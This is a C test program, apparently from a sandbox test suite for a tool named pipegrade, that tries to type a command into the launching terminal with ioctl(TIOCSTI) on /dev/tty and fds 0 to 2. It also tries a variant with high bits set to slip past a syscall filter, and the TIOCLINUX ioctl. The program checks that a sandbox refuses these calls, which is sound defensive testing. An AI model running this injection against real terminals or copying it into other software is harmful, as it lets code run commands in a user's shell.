/*
 * tiocsti.c: HOSTILE, never run it outside a sandbox: it types into the terminal that started
 * pipegrade, whose shell would run the text after pipegrade exits.
 *
 * Tries ioctl(TIOCSTI) with "echo PWNED-BY-TIOCSTI" and a newline on /dev/tty (the controlling
 * terminal, when the process has one) and on fds 0, 1 and 2, then the same command with bits
 * set above its low 32 (the kernel compares only those), then ioctl(TIOCLINUX) on fd 0. Prints
 * one line per attempt, "WHAT: ok" or "WHAT: denied (strerror)". Exits 0.
 *
 * Inside the sandbox the process has no controlling terminal (a new session) and /dev holds no
 * tty, so opening /dev/tty is "denied (No such file or directory)", and the filter refuses
 * both ioctls whatever the fd: every other line is "denied (Operation not permitted)".
 */
#define _GNU_SOURCE

#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <unistd.h>

static const char text[] = "echo PWNED-BY-TIOCSTI\n";

/* Types the text into the terminal of `fd`, a byte at a time. */
static int inject(int fd, unsigned long cmd)
{
	for (size_t i = 0; i < sizeof text - 1; i++)
		if (syscall(SYS_ioctl, fd, cmd, &text[i]) < 0)
			return -1;
	return 0;
}

static void report(const char *what, int rc)
{
	if (rc == 0)
		printf("%s: ok\n", what);
	else
		printf("%s: denied (%s)\n", what, strerror(errno));
}

int main(void)
{
	int tty = open("/dev/tty", O_RDWR);
	report("open /dev/tty", tty < 0 ? -1 : 0);
	if (tty >= 0)
		report("TIOCSTI /dev/tty", inject(tty, TIOCSTI));
	for (int fd = 0; fd <= 2; fd++) {
		char what[32];
		snprintf(what, sizeof what, "TIOCSTI fd %d", fd);
		report(what, inject(fd, TIOCSTI));
	}
	report("TIOCSTI high bits", inject(tty >= 0 ? tty : 0, 0xffffffff00000000UL | TIOCSTI));
	char sel = 2; /* TIOCL_SETSEL... any subcode: the call itself is refused */
	report("TIOCLINUX fd 0", (int)syscall(SYS_ioctl, 0, TIOCLINUX, &sel));
	return 0;
}
